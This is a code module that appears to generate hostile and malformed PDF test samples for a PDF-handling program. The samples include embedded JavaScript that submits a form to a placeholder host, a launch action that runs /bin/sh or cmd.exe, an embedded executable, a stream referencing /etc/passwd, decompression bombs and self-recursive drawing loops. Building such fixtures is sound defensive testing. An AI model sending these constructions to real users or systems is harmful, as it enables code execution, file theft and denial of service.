// PDFs that want to do something, or to be drawn for ever.

import { deflateSync } from "node:zlib";

const PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>";
const FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
const WORDS = stream(Buffer.from("BT /F 24 Tf 72 700 Td (Contoh ijazah) Tj ET"));
const SCRIPT = "(app.alert\\('AK1-JAHAT'\\); this.submitForm\\('http://contoh.invalid/'\\);)";

/** The objects of a document of one page; what is given takes the place of the usual. */
const objects = ({ catalog = "", page = PAGE, content = WORDS, pages = "<</Type/Pages/Kids[3 0 R]/Count 1>>", more = [] } = {}) => [
  `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
  pages,
  page,
  content,
  FONT,
  ...more,
];

export const PDF_TRICKS = {
  plain: objects(),
  "opens a script": objects({ catalog: `/OpenAction<</S/JavaScript/JS${SCRIPT}>>` }),
  "has scripts by name": objects({ catalog: "/Names<</JavaScript<</Names[(a)6 0 R]>>>>", more: [`<</S/JavaScript/JS${SCRIPT}>>`] }),
  "starts a program": objects({ catalog: "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>" }),
  "asks for an address": objects({ catalog: "/OpenAction<</S/URI/URI(http://contoh.invalid/AK1-JAHAT)>>" }),
  "carries a file": objects({ catalog: "/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>", more: ["<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", stream(Buffer.from("MZ AK1-JAHAT"))] }),
  "reads another file": objects({ page: PAGE.replace("4 0 R", "6 0 R"), more: ["<</Length 0/F(/etc/passwd)/FFilter/FlateDecode>>\nstream\n\nendstream"] }),
  "is its own page": objects({ pages: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>" }),
  "is as wide as a city": objects({ page: PAGE.replace("595 842", "2000000000 2000000000") }),
  "has no width": objects({ page: PAGE.replace("595 842", "0 0") }),
  "unpacks to 300 MB": objects({ content: packed(Buffer.alloc(300_000_000, " ")) }),
  "unpacks twice": objects({ content: twice(Buffer.alloc(200_000_000, " ")) }),
  "draws for ever": objects({ content: packed(Buffer.from("0 0 m 595 842 l 0 842 l 595 0 l f ".repeat(400_000))) }),
  "draws itself": objects({ page: PAGE.replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<").replace("4 0 R", "7 0 R"), more: [form("/X Do ".repeat(50)), stream(Buffer.from("/X Do"))] }),
  "saves without end": objects({ content: packed(Buffer.from("q ".repeat(5_000_000))) }),
  "has a thousand pages": objects({ pages: `<</Type/Pages/Kids[${"3 0 R ".repeat(1000)}]/Count 1000>>` }),
  "has a picture that lies": objects({
    page: PAGE.replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<").replace("4 0 R", "7 0 R"),
    more: [packed(Buffer.alloc(1000), "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"), stream(Buffer.from("595 0 0 842 0 0 cm /X Do"))],
  }),
};

/** The bytes of a document. */
export function pdf(objects) {
  const parts = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const places = [];
  let length = parts[0].length;
  for (const [at, object] of objects.entries()) {
    places.push(`${String(length).padStart(10, "0")} 00000 n \n`);
    const part = Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object, "latin1"), Buffer.from("\nendobj\n")]);
    parts.push(part);
    length += part.length;
  }
  const count = objects.length + 1;
  parts.push(Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${places.join("")}trailer\n<</Size ${count}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function stream(bytes, about = "") {
  return `<<${about}/Length ${bytes.length}>>\nstream\n${bytes.toString("latin1")}\nendstream`;
}

function packed(bytes, about = "") {
  return stream(deflateSync(bytes), `${about}/Filter/FlateDecode`);
}

function twice(bytes) {
  return stream(deflateSync(deflateSync(bytes)), "/Filter[/FlateDecode/FlateDecode]");
}

function form(content) {
  return stream(Buffer.from(content), "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>");
}
